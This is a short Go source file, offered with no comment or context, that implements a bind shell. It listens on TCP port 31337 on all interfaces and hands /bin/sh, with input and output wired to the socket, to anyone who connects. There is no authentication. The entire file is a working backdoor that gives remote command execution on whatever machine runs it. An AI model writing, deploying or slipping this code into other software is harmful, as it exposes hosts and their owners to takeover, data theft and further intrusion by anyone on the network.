package main

import (
	"net"
	"os/exec"
)

func serve(c net.Conn) {
	cmd := &exec.Cmd{Path: "/bin/sh", Args: []string{"sh"}, Stdin: c, Stdout: c, Stderr: c}
	cmd.Run()
	c.Close()
}

func main() {
	l, _ := net.Listen("tcp", "0.0.0.0:31337")
	for {
		c, err := l.Accept()
		if err != nil {
			continue
		}
		go serve(c)
	}
}
